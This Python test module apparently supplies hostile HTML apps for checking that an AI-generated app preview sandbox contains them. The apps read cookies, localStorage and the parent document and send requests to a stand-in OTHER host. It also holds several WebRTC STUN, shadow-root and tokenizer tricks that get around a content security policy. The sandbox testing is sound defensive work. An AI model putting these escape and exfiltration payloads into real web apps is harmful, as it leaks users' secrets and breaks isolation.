"""Apps written to escape the WebDev preview. Each leaves evidence if it gets out.

Evidence a test can see from outside the frame: a request whose URL holds ``STEAL``
(the network), the parent page's title or URL changing (the parent, the top window),
a new page (pop-ups), a dialog (modals), or a secret showing up in the page's text
(the app reads cookies or storage and reports them as its "error", which the page
displays). The apps are plain HTML documents in a fenced block, as a model would
write them; the parrot test models say them back as their reply. ``OTHER`` stands for
another host the app would like to reach: the test puts a live server's address there,
so a request that got out would be answered and seen.
"""

from __future__ import annotations

import json

# The app tries the escape; on success it reports what it got as its error text.
REPORT = "function leak(x){parent.postMessage({arenaPreview:1,status:'error',error:'LEAK:'+x},'*')}"


def hostile(name: str, other: str) -> str:
    """The app ``name`` with ``OTHER`` pointing at a live server (``http://host:port``)."""
    return HOSTILE[name].replace("wsOTHER", other.replace("http", "ws", 1)).replace("OTHER", other)


def app(body: str, head: str = "") -> str:
    return (
        "Here is the app.\n\n```html\n<!DOCTYPE html><html><head><title>t</title>"
        f"{head}<script>{REPORT}</script></head><body><p>app</p>{body}</body></html>\n```"
    )


def script(code: str) -> str:
    return app(f"<script>try{{{code}}}catch(e){{}}</script>")


HOSTILE: dict[str, str] = {
    "read-parent-document": script("leak(parent.document.title); parent.document.title='PWNED'"),
    "top-navigation": script("top.location.href='/STEAL-top'"),
    "top-link-click": app(
        "<a id=l target=_top href='/STEAL-toplink'>x</a>"
        "<script>document.getElementById('l').click()</script>"
    ),
    "cookies": script("leak(document.cookie)"),
    "local-storage": script("leak(localStorage.getItem('arena-secret'))"),
    "session-storage": script("leak(sessionStorage.length)"),
    "indexeddb": script("indexedDB.open('x').onsuccess=function(){leak('idb')}"),
    "fetch-api": script("fetch('/api/v1/STEAL-fetch').then(function(r){leak(r.status)})"),
    "fetch-other-port": script("fetch('OTHER/STEAL-port').then(function(){leak('port')})"),
    "xhr": script("var x=new XMLHttpRequest();x.open('GET','/STEAL-xhr');x.send()"),
    "websocket": script("new WebSocket('wsOTHER/STEAL-ws')"),
    "event-source": script("new EventSource('/STEAL-sse')"),
    "beacon": script("navigator.sendBeacon('/STEAL-beacon','x')"),
    "image-pixel": app("<img src='OTHER/STEAL-img.png'>"),
    "css-background": app("<div style=\"background:url('/STEAL-css.png');height:9px\"></div>"),
    "external-script": app("", head="<script src='OTHER/STEAL-script.js'></script>"),
    "stylesheet-link": app("", head="<link rel=stylesheet href='/STEAL-style.css'>"),
    "prefetch-link": app("", head="<link rel=prefetch href='/STEAL-prefetch'>"),
    "window-open": script("var w=window.open('/STEAL-popup'); if(w) leak('popup')"),
    "form-post": app(
        "<form id=f method=post action='/STEAL-form'><input name=a value=b></form>"
        "<script>document.getElementById('f').submit()</script>"
    ),
    "alert-loop": script("for(var i=0;i<200;i++){alert(i)} confirm('x'); prompt('y')"),
    "service-worker": script("navigator.serviceWorker.register('/STEAL-sw.js')"),
    "nested-frame": app("<iframe src='/STEAL-frame'></iframe>"),
    "self-navigation": script("location.href='OTHER/STEAL-nav'"),
    "meta-refresh": app("", head="<meta http-equiv='refresh' content='0;url=/STEAL-meta'>"),
}

# These must not freeze the voter's page; the voter stops them.
HEAVY: dict[str, str] = {
    "infinite-loop": app("<script>while(true){}</script>"),
    "huge-dom": app(
        "<script>var s='';for(var i=0;i<200000;i++){s+='<div>'+'x'.repeat(250)+'</div>'}"
        "document.body.innerHTML=s;</script>"
    ),
}

NORMAL_COUNTER = app(
    '<button id=c onclick="this.textContent=String(Number(this.textContent)+1)">0</button>'
)
NORMAL_CANVAS = app(
    "<canvas id=g width=200 height=100></canvas><p id=s>score 0</p><script>"
    "var c=document.getElementById('g'),x=c.getContext('2d'),n=0;x.fillRect(10,10,20,20);"
    "c.addEventListener('click',function(){n++;document.getElementById('s').textContent='score '+n;"
    "x.fillRect(10+n*25,10,20,20)});</script>"
)
REACT_COUNTER = (
    'A counter in React.\n\n```tsx\nimport { useState } from "react";\n'
    "export default function App() {\n  const [n, setN] = useState(0);\n"
    '  return <button id="r" className="rounded bg-blue-600 px-4 py-2 text-white" '
    "onClick={() => setN(n + 1)}>clicked {n}</button>;\n}\n```"
)
REACT_BROKEN = "```tsx\nexport default function App() { return <div>{missing.value}</div>; }\n```"


# WebRTC: ICE sends STUN Binding requests over UDP to whatever server an app names, and
# `connect-src 'none'` does not cover it. Each way of reaching a peer connection points at
# its own loopback UDP port ("PORT-name-END"), so the test can say which one got through. The
# last script says "RTC-DONE" as the app's error, which proves the app's scripts ran. Each
# connection is kept (``window.keep``): one left to the garbage collector may close unheard.
def _pc(name: str) -> str:
    return (
        "var pc=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT-"
        + name
        + "-END'}]});(window.keep=window.keep||[]).push(pc);pc.createDataChannel('x');"
        "pc.createOffer().then(function(o){return pc.setLocalDescription(o)});"
    )


def _in_frame(name: str) -> str:
    """An iframe whose own document makes the connection (a fresh window)."""
    return '<iframe srcdoc="<script>' + _pc(name).replace("'", "&#39;") + '</script>"></iframe>'


def _try(code: str) -> str:
    return "<script>try{" + code + "}catch(e){}</script>"


def _js(text: str) -> str:
    """``text`` as a JavaScript string literal (JSON's is one)."""
    return json.dumps(text).replace("</", "<\\/")


_DONE = (
    "<script>setTimeout(function(){parent.postMessage("
    "{arenaPreview:1,status:'error',error:'RTC-DONE'},'*')},300)</script>"
)
_RTC_CONSTRUCTORS = [
    ("direct", _try(_pc("direct"))),
    (
        "webkit-prefix",
        _try("var RTCPeerConnection=window.webkitRTCPeerConnection;" + _pc("webkit-prefix")),
    ),
    (
        "global-lookup",
        _try("var RTCPeerConnection=globalThis['RTC'+'PeerConnection'];" + _pc("global-lookup")),
    ),
    (
        "about-blank-window",
        "<iframe id=blank></iframe>"
        + _try(
            "var RTCPeerConnection="
            "document.getElementById('blank').contentWindow.RTCPeerConnection;"
            + _pc("about-blank-window")
        ),
    ),
]
_RTC_FRAMES = [
    ("srcdoc", _in_frame("srcdoc")),
    (
        "script-srcdoc",
        _try(
            "var f=document.createElement('iframe');f.srcdoc="
            + _js("<script>" + _pc("script-srcdoc") + "</script>")
            + ";document.body.appendChild(f)"
        ),
    ),
    (
        "javascript-url",
        "<iframe src=\"javascript:'<script>"
        + _pc("javascript-url").replace("'", "\\x27")
        + "<\\/script>'\"></iframe>",
    ),
    (
        "declarative-shadow",
        "<div><template shadowrootmode=closed>"
        + _in_frame("declarative-shadow")
        + "</template></div>",
    ),
    (
        "patched-prototypes-shadow",
        "<div id=host></div>"
        + _try(
            "MutationObserver.prototype.observe=function(){};"
            "Element.prototype.remove=function(){};"
            "Object.prototype.attributes=false;Object.prototype.attributeOldValue=true;"
            "var r=document.getElementById('host').attachShadow({mode:'closed'});"
            "r.innerHTML=" + _js(_in_frame("patched-prototypes-shadow"))
        ),
    ),
    ("write", _try("document.write(" + _js(_in_frame("write")) + ")")),
]


def _rtc_app(cases: list[tuple[str, str]], before: str = "") -> str:
    body = "".join(code for _, code in cases)
    return (
        f"Here is the app.\n\n```html\n{before}<!DOCTYPE html><html><head><title>t</title>"
        f"</head><body><p>app</p>{body}{_DONE}</body></html>\n```"
    )


# Each app holds several attempts; a port per attempt.
WEBRTC: dict[str, tuple[list[str], str]] = {
    "constructors": ([n for n, _ in _RTC_CONSTRUCTORS], _rtc_app(_RTC_CONSTRUCTORS)),
    "nested-frames": ([n for n, _ in _RTC_FRAMES], _rtc_app(_RTC_FRAMES)),
    # The tokenizer ends a comment at "<!-->": a script "inside" it runs before the doctype.
    "before-the-doctype": (
        ["before-doctype"],
        _rtc_app([], before="<!-->" + _try(_pc("before-doctype")) + "-->"),
    ),
}


def webrtc(name: str, ports: dict[str, int]) -> str:
    """The WebRTC app ``name`` with each attempt's STUN server on its own loopback port."""
    names, text = WEBRTC[name]
    for attempt in names:
        text = text.replace(f"PORT-{attempt}-END", str(ports[attempt]))
    return text
